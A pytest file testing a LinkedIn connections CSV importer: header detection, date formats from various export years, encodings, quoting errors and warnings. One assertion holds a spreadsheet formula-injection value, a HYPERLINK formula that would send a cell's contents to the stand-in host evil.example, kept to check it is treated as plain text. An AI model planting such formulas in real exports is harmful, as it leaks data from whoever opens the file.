import datetime as dt

import pytest

from mingel.core.importers import linkedin
from mingel.core.importers.model import FileError, Record, RowError


def test_it_finds_the_header_after_linkedins_notes(fixture_path):
    items = list(linkedin.parse(fixture_path("Connections.csv")))
    records = [i for i in items if isinstance(i, Record)]
    assert [r.name for r in records] == [
        "Anna Svensson",
        "Erik Lindqvist",
        "Åsa Åström",
        "Mohammed Al-Sayed",
        "Johan Ek",
        "Sara Berg",
        "Lisa Holm",
    ]
    # A company that looks like a formula is text to Mingel (the export neutralises it).
    assert records[5].company == '=HYPERLINK("http://evil.example/?x="&A1;"Click")'
    anna = records[0]
    assert anna.line == 5
    assert anna.linkedin_url == "https://www.linkedin.com/in/annasvensson"
    assert (anna.company, anna.role) == ("Spotify", "Backend Engineer")
    assert anna.connected_on == dt.date(2024, 1, 15)
    assert records[1].email == "erik.lindqvist@example.com"
    assert records[2].role == "Handläggare, digitala tjänster"


def test_it_reports_bad_rows_with_their_line_and_reason(fixture_path):
    errors = [i for i in linkedin.parse(fixture_path("Connections.csv")) if isinstance(i, RowError)]
    assert [(e.line, e.code) for e in errors] == [(9, "no_name")]


def test_a_date_that_cannot_be_read_costs_the_date_not_the_person(fixture_path):
    (lisa,) = [r for r in linkedin.parse(fixture_path("Connections.csv")) if r.line == 12]
    assert (lisa.name, lisa.connected_on, lisa.notes) == ("Lisa Holm", None, "31 Feb 2024")
    params = {"field": "connected_on", "value": "31 Feb 2024"}
    assert lisa.warnings == (RowError(12, "date_to_notes", params),)


@pytest.mark.parametrize(
    "text, expected",
    [
        pytest.param("15 Jan 2024", dt.date(2024, 1, 15), id="linkedin"),
        pytest.param("1 Dec 2019", dt.date(2019, 12, 1), id="one-digit-day"),
        pytest.param("15-Jan-24", dt.date(2024, 1, 15), id="older-export"),
        pytest.param("2024-01-15", dt.date(2024, 1, 15), id="iso"),
    ],
)
def test_it_reads_the_date_forms_linkedin_has_used(text, expected):
    assert linkedin.parse_date(text) == expected


@pytest.mark.parametrize(
    "text", ["31 Feb 2024", "15 Foo 2024", "yesterday", "08/01/2024", "1/8/18", "13/13/2024"]
)
def test_it_refuses_other_dates(text):
    """08/01/2024 could be two dates (the file's other rows decide, see below); 1/8/18
    without LinkedIn's time of day could be three."""
    with pytest.raises(ValueError):
        linkedin.parse_date(text)


def test_it_says_when_the_file_is_not_a_linkedin_export(tmp_path):
    path = tmp_path / "other.csv"
    path.write_text("Name,Email\nAnna,anna@example.com\n")
    with pytest.raises(FileError) as info:
        list(linkedin.parse(path))
    assert info.value.code == "no_header"


def test_it_reads_a_cp1252_file_with_a_header_and_no_notes(tmp_path):
    path = tmp_path / "c.csv"
    path.write_bytes(
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n"
        "Göran,Ödman,,,Scania,Teamledare,2 Feb 2022\r\n".encode("cp1252")
    )
    (record,) = linkedin.parse(path)
    assert (record.name, record.line, record.connected_on) == (
        "Göran Ödman",
        2,
        dt.date(2022, 2, 2),
    )


def test_it_stops_at_an_unclosed_quote_with_the_line(tmp_path):
    path = tmp_path / "c.csv"
    path.write_text(
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
        "Anna,Berg,,,Acme,CTO,1 Jan 2024\n"
        'Bo,"Ek,,,Acme,CTO,1 Jan 2024\n'
    )
    with pytest.raises(FileError) as info:
        list(linkedin.parse(path))
    assert (info.value.code, info.value.line) == ("bad_quoting", 3)


def test_a_2018_export_with_american_dates_imports_everyone(fixture_path):
    """2016-2018 exports wrote "1/8/18, 6:14 PM"; every row used to be refused."""
    karin, per, maja, olle = linkedin.parse(fixture_path("Connections_2018_us_dates.csv"))
    assert (karin.name, karin.email, karin.connected_on) == (
        "Karin Lund",
        "karin.lund@example.se",
        dt.date(2018, 1, 8),
    )
    assert per.connected_on == dt.date(2017, 12, 24)
    # A member id in the email column is no address: left out, with a warning.
    assert (maja.email, maja.notes, maja.connected_on) == ("", "", dt.date(2016, 3, 2))
    value = {"value": "urn:li:member:48213377"}
    assert maja.warnings == (RowError(4, "email_member_id_left_out", value),)
    # "yesterday" is no date: Olle comes in without one, the text in his notes.
    assert (olle.name, olle.connected_on, olle.notes) == ("Olle Strand", None, "yesterday")
    assert [w.code for w in olle.warnings] == ["date_to_notes"]


def test_a_2016_export_keeps_its_websites_and_messengers_in_the_notes(fixture_path):
    path = fixture_path("Connections_2016_address_websites_messengers.csv")
    lena, ali = linkedin.parse(path)
    assert (lena.connected_on, lena.notes) == (
        dt.date(2016, 6, 15),
        "http://lenaholm.se\nskype:lena.holm",
    )
    assert (ali.name, ali.connected_on, ali.warnings) == ("Ali Rahimi", dt.date(2016, 11, 30), ())


def test_a_file_saved_again_by_excel_keeps_its_dates(fixture_path):
    """Excel turns "05 Jan 2026" into "5-Jan-26" when it saves the file."""
    hanna, viktor = linkedin.parse(fixture_path("Connections_excel_saved_dates.csv"))
    assert (hanna.line, hanna.connected_on) == (5, dt.date(2026, 1, 5))
    assert viktor.connected_on == dt.date(2025, 11, 3)


@pytest.mark.parametrize(
    "text, expected",
    [
        pytest.param("1/8/18, 6:14 PM", dt.date(2018, 1, 8), id="2018-us"),
        pytest.param("12/24/17, 9:03 AM", dt.date(2017, 12, 24), id="2017-us"),
        pytest.param("08 Jan 2018", dt.date(2018, 1, 8), id="zero-padded"),
        pytest.param("5-Jan-26", dt.date(2026, 1, 5), id="excel"),
        pytest.param("15/01/2024", dt.date(2024, 1, 15), id="excel-en-gb"),
    ],
)
def test_it_reads_the_older_date_forms(text, expected):
    assert linkedin.parse_date(text) == expected


def test_dates_a_british_excel_saved_are_read_day_first(tmp_path):
    """Excel in en-GB writes 08/01/2018; the row with 13/01/2018 says how it is meant."""
    path = tmp_path / "Connections.csv"
    path.write_text(
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n"
        "Anna,Berg,,,,,08/01/2018\r\nBo,Ek,,,,,13/01/2018\r\n",
        encoding="utf-8",
    )
    anna, bo = linkedin.parse(path)
    assert (anna.connected_on, bo.connected_on) == (dt.date(2018, 1, 8), dt.date(2018, 1, 13))


def test_a_slashed_date_that_could_be_two_goes_to_the_notes(tmp_path):
    path = tmp_path / "Connections.csv"
    path.write_text(
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n"
        "Anna,Berg,,,,,08/01/2018\r\n",
        encoding="utf-8",
    )
    (anna,) = linkedin.parse(path)
    assert (anna.connected_on, anna.notes) == (None, "08/01/2018")


def test_current_company_and_position_headers_are_read(tmp_path):
    path = tmp_path / "Connections.csv"
    path.write_text(
        "First Name,Last Name,Email Address,Current Company,Current Position,Connected On\r\n"
        'Anna,Berg,,Telia,Analyst,"2/3/17, 10:12 AM"\r\n',
        encoding="utf-8",
    )
    (anna,) = linkedin.parse(path)
    assert (anna.company, anna.role, anna.connected_on) == ("Telia", "Analyst", dt.date(2017, 2, 3))
